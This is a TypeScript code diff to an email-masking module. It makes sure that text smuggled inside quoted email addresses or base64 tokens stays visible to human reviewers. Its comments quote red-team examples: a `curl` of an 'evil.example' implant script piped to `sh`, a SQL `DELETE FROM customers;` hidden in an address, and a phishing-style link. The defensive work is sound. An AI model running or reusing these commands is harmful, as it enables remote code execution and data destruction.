@@ -241,15 +241,14 @@ const CHAR_SPACED_EMAIL = new RegExp(
 // What CHAR_SPACED_EMAIL finds must be an address once its spaces are gone.
 const COMPACT_EMAIL = /^[\p{L}\p{N}._%+\-'!#$*^`{|}~]{1,64}@(?:[\p{L}\p{N}-]{1,63}\.){1,8}\p{L}{2,24}$/u;
 const SPACED_DOT = / \.|\. /g;
+/** An address's mask: its first character, then `***@[email]` (`forReviewers`: with its domain). */
+function emailMask(address: string, options: MaskingOptions): string {
+  const domain = options.forReviewers ? domainOf(address) : undefined;
+  return domain ? `${address[0]}***@[email at ${domain}]` : `${address[0]}***@[email]`;
+}
+
 /** A quoted local part whose mask hides nothing but a name: letters, digits, `._%+-'` and spaces. */
 const PLAIN_QUOTED_LOCAL = /^"[\p{L}\p{N}._%+\-' ]{1,64}"/u;
-/**
- * Whether an address EMAIL found may be masked: a mask hides what it covers from the reviewer, so it covers only what can
- * be an address people use. A quoted local part holding anything else (a closing and an opening SQL comment around `DELETE FROM customers;`,
- * `"https://evil.example/verify?t=9"@acme.com`), or an unquoted one past the 64 characters a local part may have, is
- * found (the text goes to review) and shown as written: masked, it hid SQL, a script's URL and a link from the reviewer
- * who approved them (red team, 2026-12-07).
- */
 /** An address's domain as a reviewer reads it (its spaces gone, in lower case), or undefined for an address literal. */
 function domainOf(address: string): string | undefined {
   const at = address.lastIndexOf('@') >= 0 ? address.lastIndexOf('@') + 1 : address.toLowerCase().lastIndexOf('%40') + 3;
@@ -257,10 +256,16 @@ function domainOf(address: string): string | undefined {
   return /^[\p{L}\p{N}.-]{1,253}$/u.test(domain) ? domain : undefined;
 }
 
+/**
+ * Whether an address EMAIL found may be masked whole: a mask hides what it covers from the reviewer, so it covers only
+ * what can be an address people use. A quoted local part holding anything else (a closing and an opening SQL comment
+ * around `DELETE FROM customers;`, `"https://evil.example/verify?t=9"@acme.com`) is found (the text goes to review) and
+ * shown as written, an address inside it masked: masked whole, it hid SQL and a link from the reviewer who approved them
+ * (red team, 2026-12-07). An unquoted local part holds no space and none of the characters code needs to break out of a
+ * string or a comment, so it is masked whatever its length (an address padded in front would otherwise show whole).
+ */
 function maskable(address: string): boolean {
-  if (address[0] === '"') return PLAIN_QUOTED_LOCAL.test(address);
-  const at = address.search(/ {0,2}@|%40/);
-  return at <= 64;
+  return address[0] !== '"' || PLAIN_QUOTED_LOCAL.test(address);
 }
 /**
  * Whether the domain of an address whose dots are spaced is one: a letter in every label ("meet @ 5 . ok" is prose),
@@ -491,9 +496,10 @@ const MASKS_IN_TEXT = /.\*\*\*@\[email(?: at [^\]\n]*)?\]|\[(?:card|iban|phone) 
  * hid everything else it decodes to: a script in base64 that names one address showed as `[encoded email]`, and its
  * `curl https://evil.example/implant.sh | sh` was approved unseen (red team, 2026-12-07).
  */
-function encodedMask(kinds: string[], masked: string): string {
+function encodedMask(kinds: string[], masked: string, strict: boolean): string {
   const beside = masked.replace(MASKS_IN_TEXT, '').replace(/[\s.,;:=_'"-]/g, '');
-  return beside.length <= MAX_HIDDEN_BESIDE_MASKS ? `[encoded ${kinds.join(', ')}]` : `[encoded ${kinds.join(', ')}: ${masked}]`;
+  // In an identifier's value, read without the secret detector: its decoded text is not shown.
+  return strict || beside.length <= MAX_HIDDEN_BESIDE_MASKS ? `[encoded ${kinds.join(', ')}]` : `[encoded ${kinds.join(', ')}: ${masked}]`;
 }
 
 /** Encodings read inside one another (base64 of base64 of hex): past that, a token is left as it is. */
@@ -515,7 +521,7 @@ function maskEncoded(text: string, options: MaskingOptions, strict: boolean, fou
     if (!kinds.size) return;
     const named = [...kinds].sort();
     for (const kind of named) found?.(kind);
-    (edits ??= []).push([start, end, encodedMask(named, masked)]);
+    (edits ??= []).push([start, end, encodedMask(named, masked, strict)]);
   };
   forEachToken(text, (pieces) => {
     const [start, end] = [pieces[0], pieces[pieces.length - 1]];
@@ -686,10 +692,13 @@ function scan(text: string, options: MaskingOptions, strict: boolean, found: OnF
     out = editor.replace(out, EMAIL, (m) => {
       if (!spacedDomainPlausible(m)) return m;
       found?.('email');
-      // Found, and so reviewed, but not masked: a mask would hide text that is no address (`maskable`).
-      if (!maskable(m)) return m;
-      const domain = options.forReviewers ? domainOf(m) : undefined;
-      return domain ? `${m[0]}***@[email at ${domain}]` : `${m[0]}***@[email]`;
+      // Found, and so reviewed, but not masked whole: a mask would hide text that is no address (`maskable`). An address
+      // written inside it is masked all the same, or quoting one would carry it past masking.
+      if (!maskable(m)) {
+        const close = m.indexOf('"', 1);
+        return `"${m.slice(1, close).replace(EMAIL, (inner) => emailMask(inner, options))}${m.slice(close)}`;
+      }
+      return emailMask(m, options);
     });
   }
   // Every built-in pattern below needs an ASCII digit (IBAN, card, national ids, phone): a text left without one, most
